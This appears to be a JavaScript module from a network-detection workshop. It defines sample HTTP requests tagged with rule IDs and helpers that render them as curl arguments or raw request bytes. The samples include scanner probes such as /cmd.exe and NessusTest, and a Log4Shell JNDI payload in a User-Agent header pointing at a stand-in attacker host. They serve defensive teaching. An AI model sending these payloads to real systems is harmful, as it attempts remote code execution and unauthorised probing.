/** biome-ignore-all lint/suspicious/noTemplateCurlyInString: an attack, not a template */
// What the client asks for in the workshops, and what is to be seen of it. The live demo sends these by curl; the
// replay writes them into a capture.

/** @typedef {{ path: string, method?: string, headers?: Record<string, string>, body?: string, sid: number }} Sent */

/** First scenario, to the shop's front end. */
export const toFrontend = [
  {
    method: "POST",
    path: "/secid_canceltoken.cgi",
    headers: { "X-CMD": "Test", "X-KEY": "Test" },
    sid: 1000001,
  },
  { method: "POST", path: "/", headers: { "User-Agent": "Mozilla/4.0" }, body: "smk=1234", sid: 1000002 },
];

/** Second scenario, to the web server. */
export const toNginx = [
  { path: "/cmd.exe", sid: 1000003 },
  { path: "/NessusTest", sid: 1000004 },
  { path: "/", headers: { "User-Agent": "${jndi:ldap://attacker.example/a}" }, sid: 1000010 },
];

/** The same as arguments of curl. */
export const curlOf = ({ method, path, headers = {}, body }, host) => [
  "curl",
  "-sS",
  "-m",
  "5",
  ...(method === undefined || body !== undefined ? [] : ["-X", method]),
  ...Object.entries(headers).flatMap(([name, value]) => ["-H", `${name}: ${value}`]),
  ...(body === undefined ? [] : ["-d", body]),
  `http://${host}${path}`,
];

/** The same as bytes on a connection. */
export const bytesOf = ({ method = "GET", path, headers = {}, body = "" }, host) =>
  Buffer.from(
    [
      `${method} ${path} HTTP/1.1`,
      `Host: ${host}`,
      ...Object.entries({ "User-Agent": "curl/8.0", Accept: "*/*", ...headers }).map(
        ([name, value]) => `${name}: ${value}`,
      ),
      ...(method === "POST" ? [`Content-Length: ${body.length}`] : []),
      "",
      body,
    ].join("\r\n"),
    "latin1",
  );
